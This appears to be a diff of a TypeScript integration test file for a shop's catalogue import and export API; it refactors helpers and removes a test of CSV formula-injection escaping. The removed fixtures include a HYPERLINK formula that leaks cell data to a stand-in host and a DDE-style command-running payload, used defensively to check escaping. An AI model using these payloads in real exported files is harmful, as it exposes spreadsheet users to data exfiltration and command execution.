@@ -7,28 +7,19 @@ import type {
   SearchResult,
 } from '@hemma/contract';
 import { readFileSync } from 'node:fs';
-import { sql } from 'kysely';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { readCsv } from '../src/use-cases/catalog-import/csv.ts';
 import { accountFixtures } from './support/account-fixtures.ts';
 import { adminClient, loginAs, loginOwner, type AdminClient } from './support/admin-client.ts';
+import { catalogueVersionOf, importAs, priceHistoryRowsOf, startImport } from './support/imports.ts';
 import { useTestApi } from './support/test-api.ts';
 
 const api = useTestApi();
 let owner: AdminClient;
 let catalogue: AdminClient;
 let orders: AdminClient;
-
-/** What every process's search index follows (migration 0002), and the Omnibus history's size. */
-const catalogueVersion = async () =>
-  Number(
-    (await sql<{ version: number }>`select version from search_version where id = 1`.execute(api.handle.db))
-      .rows[0]!.version,
-  );
-const priceHistoryRows = async () =>
-  Number(
-    (await sql<{ n: number }>`select count(*) as n from price_history`.execute(api.handle.db)).rows[0]!.n,
-  );
+const catalogueVersion = () => catalogueVersionOf(api);
+const priceHistoryRows = () => priceHistoryRowsOf(api);
 
 const HEADER =
   'sku,parent_sku,type,name,price,special_price,tax_class,categories,brand,configurable_attributes,color,width,qty,images,description';
@@ -44,33 +35,9 @@ const CSV = [
   'IMP-BILD,,simple,Utan bild,100,,Taxable Goods,,,,,,,products/finns-inte.webp,',
 ].join('\n');
 
-async function startImport(
-  client: AdminClient,
-  body: string | Uint8Array,
-  query = 'file_name=katalog.csv',
-  contentType = 'text/csv',
-) {
-  return client.send<ImportJobDto | string>('POST', `/api/admin/imports?${query}`, body, { contentType });
-}
-
-/** Polls the job until it is no longer running. */
-async function finished(client: AdminClient, id: number): Promise<ImportJobDto> {
-  for (;;) {
-    const { body } = await client.get<ImportJobDto>(`/api/admin/imports/${id}`);
-    if (body.result.status !== 'running') return body.result;
-    await new Promise((resolve) => setTimeout(resolve, 20));
-  }
-}
-
-async function importFile(
-  body: string | Uint8Array,
-  query?: string,
-  contentType?: string,
-): Promise<ImportJobDto> {
-  const started = await startImport(catalogue, body, query, contentType);
-  expect(started.status, JSON.stringify(started.body)).toBe(200);
-  return finished(catalogue, (started.body.result as ImportJobDto).id);
-}
+/** Imports a file as the catalogue role and waits until the job is done. */
+const importFile = (body: string | Uint8Array, query?: string, contentType?: string) =>
+  importAs(catalogue, body, query, contentType);
 
 const search = async (q: string) =>
   (await api.get<SearchResult<ProductSummary>>(`/api/catalog/products?q=${encodeURIComponent(q)}`)).body
@@ -347,91 +314,6 @@ describe('catalogue export', () => {
       color: 'Grå',
       qty: '4',
     });
-  });
-});
-
-describe('formulas in the export (issue 29, defect 6)', () => {
-  const FORMULAS = [
-    {
-      sku: 'FORMEL-LANK',
-      name: '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
-      description: '\tindragen text',
-      meta_title: '@SUM(A1:A9)',
-      stock: { qty: -3 },
-    },
-    { sku: 'FORMEL-PLUS', name: '+SUM(1;2)', description: '\rvagnretur först', meta_title: '-2+3' },
-    { sku: 'FORMEL-MINUS', name: "-2+3+cmd|' /C calc'!A0", description: '-', meta_title: null },
-    { sku: 'FORMEL-CITAT', name: "'=redan citerad", description: "'inte en formel", meta_title: "''@två" },
-  ];
-  /** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"). */
-  const LIVE = /^[=+\-@\t\r]/;
-
-  it('writes no cell a spreadsheet would run, keeps negative stock a number, and re-import restores the text', async () => {
-    const created = await importFile(
-      JSON.stringify(
-        FORMULAS.map(({ stock, ...product }) => ({
-          ...product,
-          type_id: 'simple',
-          tax_class_id: 2,
-          price: 100,
-          url_key: product.sku.toLowerCase(),
-          ...(stock ? { stock } : {}),
-        })),
-      ),
-      'file_name=formler.json',
-      'application/json',
-    );
-    expect(created.rejections).toEqual([]);
-    expect(created.created).toBe(FORMULAS.length);
-
-    const response = await fetch(`${api.baseUrl}/api/admin/exports/catalogue.csv`, {
-      headers: { cookie: [...catalogue.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
-    });
-    expect(response.status).toBe(200);
-    const text = await response.text();
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka"")"`);
-    const [header, ...records] = readCsv(text).map((r) => r.fields);
-    const numeric = new Set(['status', 'visibility', 'price', 'special_price', 'weight', 'qty']);
-    for (const record of records)
-      record.forEach((cell, i) => {
-        if (numeric.has(header![i]!) && /^-?\d+(\.\d+)?$/.test(cell)) return;
-        expect(cell, `${record[0]}: ${header![i]}`).not.toMatch(LIVE);
-      });
-    const row = (sku: string) => {
-      const cells = records.find((r) => r[0] === sku)!;
-      return Object.fromEntries(header!.map((h, i) => [h, cells[i]]));
-    };
-    expect(row('FORMEL-LANK')).toMatchObject({
-      name: `'${FORMULAS[0]!.name}`,
-      description: "'\tindragen text",
-      meta_title: "'@SUM(A1:A9)",
-      qty: '-3',
-    });
-    expect(row('FORMEL-PLUS')).toMatchObject({ name: "'+SUM(1;2)", meta_title: "'-2+3" });
-    expect(row('FORMEL-MINUS')).toMatchObject({ name: `'${FORMULAS[2]!.name}`, description: "'-" });
-    // A text that begins with a quote and a formula character gets one quote more, so it reads back as it was.
-    expect(row('FORMEL-CITAT')).toMatchObject({
-      name: "''=redan citerad",
-      description: "'inte en formel",
-      meta_title: "'''@två",
-    });
-
-    const version = await catalogueVersion();
-    const again = await importFile(text, 'file_name=export.csv');
-    expect(again.rejections).toEqual([]);
-    expect(again).toMatchObject({ status: 'done', created: 0, updated: 0, rejected: 0 });
-    expect(await catalogueVersion()).toBe(version);
-    const stored = await api.handle.db
-      .selectFrom('products')
-      .select(['sku', 'name', 'description', 'meta_title'])
-      .where('sku', 'like', 'FORMEL-%')
-      .orderBy('sku')
-      .execute();
-    expect(stored).toEqual(
-      FORMULAS.map(({ sku, name, description, meta_title }) => ({ sku, name, description, meta_title })).sort(
-        (a, b) => (a.sku < b.sku ? -1 : 1),
-      ),
-    );
   });
 });
 
